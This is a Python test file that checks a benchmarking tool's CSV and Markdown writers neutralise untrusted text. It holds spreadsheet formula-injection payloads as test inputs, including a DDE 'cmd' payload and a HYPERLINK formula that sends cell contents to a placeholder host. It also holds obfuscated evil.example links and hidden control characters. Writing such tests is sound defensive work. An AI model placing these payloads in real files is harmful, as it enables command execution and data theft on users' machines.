"""Text of strangers in files for people: no formula, no link, nothing hidden."""

import ast
import csv
import html
import io
import re
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from crosslight.bench.compare import Flip
from crosslight.bench.compare import _csv as flips_csv
from crosslight.bench.results import as_csv
from crosslight.judge.label_queue import COLUMNS, write_queue
from crosslight.text import csv_text, inert, markdown

SOURCE = Path(__file__).parents[2] / "src" / "crosslight"
FORMULAS = [
    '=HYPERLINK("http://x/?"&A1,"see")',
    "@SUM(1)",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    '"=1+1',
    "\ufeff=1+1",
    "\u200b=1+1",
    "\xa0=1+1",
    "\uff1d1+1",
    "\uff20SUM(1)",
    "\uff0b1+1",
    "\uff0d1+cmd",
    "-",
    "=",
]
PLAIN = ["photo.jpg", "a=b", "1-2", "", "-3.5", "+1e-3", "it's", "x@y", "'quoted'", "über"]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_made_inert_in_every_table_that_we_write(tmp_path: Path, text: str) -> None:
    assert inert(text) == "'" + text
    queue = write_queue(tmp_path, [dict.fromkeys(COLUMNS, text)])
    flip = Flip(*[text] * len(Flip.__dataclass_fields__))
    names = list(Flip.__dataclass_fields__)
    tables = [
        csv_text(("one", text), [{"one": text, text: [text]}]),
        as_csv([{"protocol": text, "group": text, "model": text}]),
        flips_csv([{name: getattr(flip, name) for name in names} | {"a": text, "b": text}], names),
        queue.read_bytes().decode(),
    ]
    for table in tables:
        cells = [c for row in csv.reader(io.StringIO(table, newline="")) for c in row if c]
        assert any("'" + text.replace("\r", "\n") == cell for cell in cells)
        assert not [cell for cell in cells if cell != inert(cell)], table


@pytest.mark.parametrize("text", PLAIN)
def test_other_text_stays_as_it_is(text: str) -> None:
    assert inert(text) == text


def test_numbers_stay_numbers() -> None:
    assert csv_text(("a", "b"), [{"a": -0.5, "b": None}]) == "a,b\n-0.5,\n"


def test_nobody_else_writes_a_csv() -> None:
    made = [
        path.relative_to(SOURCE).as_posix()
        for path in SOURCE.rglob("*.py")
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8")))
        if isinstance(node, ast.Attribute) and node.attr in ("writer", "DictWriter", "to_csv")
        if isinstance(node.value, ast.Name) and node.value.id in ("csv", "pd")
    ]
    assert made == ["text/cells.py"]


LINKS = [
    *("https://evil.example/login", "HTTP://evil.example", "ftp://evil.example/x"),
    *("see:https://evil.example", "https://a@evil.example", "www.evil.example", "WWW.evil.example"),
    *("me@evil.example", "mailto:me@evil.example", "xmpp:me@evil.example/x", "a.b+c@evil.example"),
    *("git+ssh://evil.example", "https:////evil.example", "a://b://c", "photo.jpg www.a.example"),
    *("<https://evil.example>", "[x](https://evil.example)", "&#104;ttps://evil.example"),
    "https:&#47;/evil.example",
]
AUTOLINK = re.compile(r"(?i)[a-z][a-z0-9+.-]*://|www\.[a-z0-9]|[\w.+-]+@[\w-]+\.|mailto:|xmpp:")


def text_nodes(line: str) -> list[str]:
    """What a Markdown reader has as text between what is no text, its entities read."""
    return [html.unescape(part) for part in line.split("<!-- -->")]


@pytest.mark.parametrize("text", LINKS)
def test_a_bare_address_is_no_link(text: str) -> None:
    line = markdown(text)
    assert not AUTOLINK.search(line)
    assert not [node for node in text_nodes(line) if AUTOLINK.search(node)]


@given(st.text(alphabet="htps:/w.@ame-l\\&#58;<>!"))
def test_no_text_at_all_becomes_an_address(text: str) -> None:
    assert not [node for node in text_nodes(markdown(text)) if AUTOLINK.search(node)]


@pytest.mark.parametrize("hidden", ["\u202e", "\x1b", "\u2066", "\x00", "\x9b", "\U000e0041"])
def test_what_is_hidden_is_named(hidden: str) -> None:
    shown = markdown(f"a{hidden}b")
    assert hidden not in shown and f"U+{ord(hidden):04X}" in shown


def test_a_result_table_shows_hidden_letters_and_has_no_links() -> None:
    from crosslight.bench.results import as_markdown

    run = {
        "protocol": "x\u202e https://evil.example",
        "models": [{"role": "model", "spec": "openai:m@https://evil.example\x1b[2J"}],
        "settings": {"remedy": "www.evil.example", "picture": "me@evil.example", "judge_as": ""},
        "notes": ["see https://evil.example \u202e"],
    }
    text = as_markdown(run, [])
    assert not {"\u202e", "\x1b"} & set(text)
    assert not [line for line in text.splitlines() if AUTOLINK.search(line)]
